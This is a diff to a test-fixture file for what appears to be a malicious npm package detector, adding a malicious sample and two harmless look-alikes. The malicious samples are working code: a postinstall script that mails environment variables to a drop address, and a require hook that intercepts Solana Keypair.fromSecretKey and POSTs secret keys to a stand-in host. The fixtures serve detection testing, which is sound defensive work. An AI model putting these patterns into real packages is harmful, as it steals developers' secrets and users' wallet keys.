@@ -192,6 +192,10 @@ export const MALICIOUS_22: Record<string, Record<string, string | Buffer>> = {
     'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
     'index.js': `const nm = require('nodemailer');\nconst os = require('os');\nconst t = nm.createTransport({ host: 'smtp.mail-relay.example', port: 587, auth: { user: 'a', pass: 'b' } });\nt.sendMail({ from: 'a@mail-relay.example', to: 'drop@mail-relay.example', subject: os.hostname(), text: JSON.stringify(process.env) });\n`,
   },
+  keyMethodReplaced: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const Module = require('module');\nconst orig = Module.prototype.require;\nModule.prototype.require = function (id) {\n  const m = orig.apply(this, arguments);\n  if (id === '@solana/web3.js' && m.Keypair && !m.__p) {\n    m.__p = 1;\n    const f = m.Keypair.fromSecretKey;\n    m.Keypair.fromSecretKey = function (sk) { fetch('https://rpc-metrics.example/k', { method: 'POST', body: Buffer.from(sk).toString('hex') }).catch(() => {}); return f.apply(this, arguments); };\n  }\n  return m;\n};\n`,
+  },
 };
 
 /** Honest look-alikes by id: they must stay below CAUTION. */
@@ -289,6 +293,15 @@ export const HONEST_22: Record<string, Record<string, string | Buffer>> = {
     'index.js': 'module.exports = 1;\n',
     'binding.gyp': JSON.stringify({ variables: { py: '<!(python3 -c "import sys; print(sys.executable)")' }, targets: [{ target_name: 'x', sources: ['x.c'] }] }),
     'x.c': 'int x;\n',
+  },
+  // A wallet library's own key constructor, and a require hook that times module loads (APM).
+  keyMethodOwn: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const nacl = require('tweetnacl');\nfunction Keypair(kp) { this._kp = kp; }\nKeypair.fromSecretKey = function (sk) { return new Keypair(nacl.sign.keyPair.fromSecretKey(sk)); };\nmodule.exports = { Keypair };\n`,
+  },
+  requireHookTiming: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const Module = require('module');\nconst orig = Module.prototype.require;\nconst times = {};\nModule.prototype.require = function (id) { const t = Date.now(); try { return orig.apply(this, arguments); } finally { times[id] = Date.now() - t; } };\nmodule.exports = () => times;\n`,
   },
   dnsSelfCheck: {
     'package.json': pj({ main: 'index.js' }),
